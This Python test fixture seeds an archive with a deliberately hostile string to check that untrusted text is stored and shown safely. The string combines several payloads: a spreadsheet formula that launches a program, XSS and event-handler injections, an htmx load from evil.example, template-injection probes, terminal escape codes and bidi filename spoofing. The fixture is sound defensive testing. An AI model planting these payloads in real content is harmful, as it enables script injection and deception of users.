"""An archive in which everything that others write is hostile: what designs, games, models and people leave in it."""

from __future__ import annotations

import shutil
import time
from contextlib import closing
from pathlib import Path

from archive.comparisons import DECIDED
from archive.insights import add_hint, add_operations
from archive.ledger import Entry, Ledger
from archive.opening import open_archive
from archive.store import Archive, pack
from archive.tables import Comparison, Design, Diagnosis, Evaluation, Manifest, Member, State
from archive.told import began_with, pack_told
from evolve.insights import LESSON, PERSON, Insight, Situation
from sandbox.guest import Item, Step, Task, Trajectory, frames

ATTACK = (
    "=cmd|' /C calc'!A0 <script>window.pwned = 1</script></script><img src=x onerror='window.pwned = 2'>"
    "<svg/onload=window.pwned=3> \" onmouseover=\"window.pwned=4\" x='' onfocus='window.pwned=5' autofocus "
    "javascript:window.pwned=6 ]]> --> </textarea></style></title></pre><iframe src=javascript:window.pwned=7>"
    "<div hx-get='//evil.example/' hx-trigger=load hx-on:load='window.pwned=8' data-chart=//evil.example/>"
    " sum{{7*7}}sum sum${7*7}sum {% raw %} {{ ''.__class__ }} \u0000\u0007\x1b[31mred\x1b]0;title\x07 \x9b2J "
    "\u202egnp.exe\u2066\u200f \ufeff\U000e0041 \U0001f955 \u0645\u0631\u062d\u0628\u0627"
    " &lt;b&gt; %3Cscript%3E \\u003cscript\\u003e"
)
"""Script, markup, attributes, other contexts, template syntax, a formula, NUL, terminal codes and bidi overrides."""
TORN = f"\ud800{ATTACK}\udfff"
"""With lone surrogates, which JSON can hold and UTF-8 cannot."""
HUGE = ATTACK + "x" * 5_000_000
SMALL_ID, HUGE_ID = f"2-{'e' * 62}", f"2-{'f' * 62}"
"""A design whose texts are as above, and one whose texts are huge."""
KEYS = {SMALL_ID: bytes([7]) * 16, HUGE_ID: bytes([8]) * 16}
"""Of their episodes."""


def make(recorded: Path, path: Path) -> Path:
    """A copy of a real archive into which all of it is entered, as a run would have entered it."""
    shutil.copy(recorded, path)
    with closing(open_archive(path, write=True)) as archive:
        parent = next(each.design_id for each in archive.members(1) if each.number == 1)
        for number, (design, text) in enumerate(((SMALL_ID, ATTACK), (HUGE_ID, HUGE)), 90):
            torn = "\ud800" + text
            _design(archive, design, number, parent, text)
            _thoughts(archive, design, number, parent, text, torn)
            _episodes(archive, design, text)
            add_hint(archive, 1, text)
            insight = Insight(LESSON, torn, Situation(TORN), designs=(TORN,), tasks=(TORN,))
            told = {"kind": "add", "targets": "", "author": PERSON, "reason": text, "created": time.time()}
            add_operations(archive, [{**told, "insight": pack(insight.pack())}])
    with closing(Ledger(path, write=True)) as ledger:
        for design, text in ((SMALL_ID, TORN), (HUGE_ID, HUGE)):
            told = {"messages": [{"speaker": text[:1000], "text": text}], "extra": [text]}
            entry = Entry(1, b"k", ATTACK, ATTACK, design, 0, 9, 9, finish=ATTACK, problem=ATTACK, created=time.time())
            ledger.record(entry, told, {"text": text, "calls": [{"name": text}], "rest": text})
    return path


def _design(archive: Archive, design: str, number: int, parent: str, text: str) -> None:
    source = f'"""{text}"""\n\nx = 1  # {text}\n'
    row = Design(id=design, source=source, summary=text, origin=ATTACK, created=time.time())
    member = Member(run_id=1, design_id=design, number=number, role="candidate", change=text)
    archive.add_design(row, member, [parent], reason=text)
    child = Design(id=design[:-1] + "0", source="x = 2\n", summary=text, origin="untrusted", created=time.time())
    archive.add_design(
        child, Member(run_id=1, design_id=child.id, number=number + 5, role="candidate", change=""), [design]
    )
    archive.add_event(1, design, State.FAILED, f"{text}\n{text}")


def _thoughts(archive: Archive, design: str, number: int, parent: str, text: str, torn: str) -> None:
    now = time.time()
    plan = {
        "learned": [TORN],
        "episodes": [{"task": TORN, "label": TORN, "why": TORN}],
        "content_problems": [TORN],
        "structure_problems": [torn],
        "changes": [{"priority": TORN, "part": TORN, "what": TORN, "why": torn}],
    }
    thoughts = {
        "plan": plan,
        "manifest": {"hypothesis": torn, "part": TORN, "improves": [TORN], "at_risk": [TORN]},
        "attempts": [["", torn], [TORN, TORN]],
        "cut": [{"section": TORN, "tokens": 2, "kept": 1}],
        "warnings": [TORN],
    }
    archive.save(Manifest(run_id=1, number=number, design_id=design, thoughts=pack(thoughts), reason=text, created=now))
    defects = [[TORN, TORN, 0.5, torn, TORN]]
    profile = {"defects": defects, "signs": {}, "author": TORN}
    archive.save(Diagnosis(run_id=1, design_id=design, profile=pack(profile), author=text, created=now))
    criterion = {"name": TORN, "weight": 1.0, "ours": 1.0, "theirs": 2.0, "critique": torn}
    details = {"criteria": [criterion], "signs": {}, "operators": {TORN: 1.0}, "meta_prompt": torn, "lessons": [TORN]}
    beside = Comparison(
        run_id=1, design_id=design, rival_id=parent, told=1, decided_by=next(iter(DECIDED)), details=pack(details),
        author=text, created=now,
    )  # fmt: skip
    archive.save(beside)


def _episodes(archive: Archive, design: str, text: str) -> None:
    """One for a task that selects and one that was reflected on, each step of which was kept."""
    key, items = KEYS[design], (Item(text[:1000], text), Item("i2", "=1+1"))
    steps = (Step(text, text, 0.5, False), Step("=1+1", text, 0.0, True))
    trajectory = Trajectory(Task(text, text, text, text), steps, 0.5, False, began_with(items))
    played = {"key": key, "task_id": ATTACK, "seed": 7, "score": 0.5, "success": False, "steps": 2}
    archive.add_episodes([played], [{"key": key, "trajectory": pack(frames.pack(trajectory))}])
    for role in ("deployment", "reflection", ATTACK):
        evaluation = Evaluation(
            run_id=1, design_id=design, role=role, score=0.5, low=0.4, high=0.6, n=1, tokens=4.0, cut=0, calls=0,
            variant=text, seconds=0.1, created=time.time(),
        )  # fmt: skip
        outcome = {"task_id": ATTACK, "repeat": 0, "score": 0.5, "episode": key, "told": key, "tokens": 4}
        archive.add_evaluation(evaluation, [outcome], {key: pack(pack_told(began_with(items)))})
